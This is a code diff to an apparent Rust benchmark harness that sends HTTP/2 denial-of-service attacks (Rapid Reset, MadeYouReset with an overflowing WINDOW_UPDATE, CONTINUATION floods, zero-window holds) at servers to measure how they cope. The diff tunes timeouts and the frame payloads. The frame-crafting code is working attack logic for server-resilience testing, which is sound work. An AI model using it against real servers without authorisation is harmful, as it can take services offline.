@@ -66,6 +66,7 @@ pub enum Attack {
 }
 
 impl Attack {
+    #[allow(dead_code)] // the benchmark's
     pub const ALL: [Self; 16] = [
         Self::RapidReset,
         Self::SlowReset,
@@ -88,6 +89,11 @@ impl Attack {
     /// Whether the attacker waits instead of sending: it holds what it has got.
     fn holds(self) -> bool {
         matches!(self, Self::ZeroWindow | Self::NoBody | Self::Silent)
+    }
+
+    /// After this long without taking a byte the server has stopped the attack as well as by closing.
+    fn patience(self) -> Duration {
+        if self.is_deaf() { Duration::from_millis(500) } else { Duration::from_secs(5) }
     }
 
     /// Whether the attacker leaves the answers where they are.
@@ -128,8 +134,8 @@ impl Attack {
             Self::SlowReset => reset_request(request, stream(number)),
             Self::MadeYouReset => many(BATCH, |offset| {
                 let head = frame(HEADERS, END_HEADERS, stream(first + offset), &request.block("POST"));
-                // An increment of 0 is an error of the stream (§6.9).
-                [head, frame(WINDOW_UPDATE, 0, stream(first + offset), &[0; 4])].concat()
+                // A window over 2^31 - 1 is an error of the stream (§6.9.1).
+                [head, frame(WINDOW_UPDATE, 0, stream(first + offset), &[0x7f, 0xff, 0xff, 0xff])].concat()
             }),
             Self::Continuation => many(BATCH, |_| frame(CONTINUATION, 0, 1, &literal("x-more", &"x".repeat(64)))),
             Self::EmptyContinuation => many(BATCH, |_| frame(CONTINUATION, 0, 1, &[])),
@@ -199,8 +205,7 @@ where
         while number < most && !attack.holds() && Instant::now() < until {
             let piece = attack.piece(request, number);
             let sent = async { writer.write_all(&piece).await.and(writer.flush().await) };
-            // A server that reads no more has stopped the attack as well as one that closes.
-            if !matches!(timeout(Duration::from_millis(500), sent).await, Ok(Ok(()))) {
+            if !matches!(timeout(attack.patience(), sent).await, Ok(Ok(()))) {
                 break;
             }
             number += 1;
@@ -232,7 +237,7 @@ where
             () = &mut read => {}
             pieces = &mut write => {
                 let rest = until.saturating_duration_since(Instant::now());
-                let patience = if attack.holds() { rest } else { Duration::from_millis(300) };
+                let patience = if attack.holds() { rest } else { Duration::from_secs(1) };
                 let _ = timeout(patience, &mut read).await;
                 sent = pieces;
             }
@@ -261,7 +266,6 @@ pub fn literal(name: &str, value: &str) -> Vec<u8> {
 /// A frame as it was read.
 pub struct Frame {
     pub kind: u8,
-    pub flags: u8,
     pub stream: u32,
     pub payload: Vec<u8>,
 }
@@ -282,7 +286,7 @@ impl<R: AsyncRead + Unpin> Frames<R> {
         let mut payload = vec![0; length as usize];
         self.0.read_exact(&mut payload).await.ok()?;
         let stream = u32::from_be_bytes([head[5], head[6], head[7], head[8]]);
-        Some(Frame { kind: head[3], flags: head[4], stream, payload })
+        Some(Frame { kind: head[3], stream, payload })
     }
 }
 
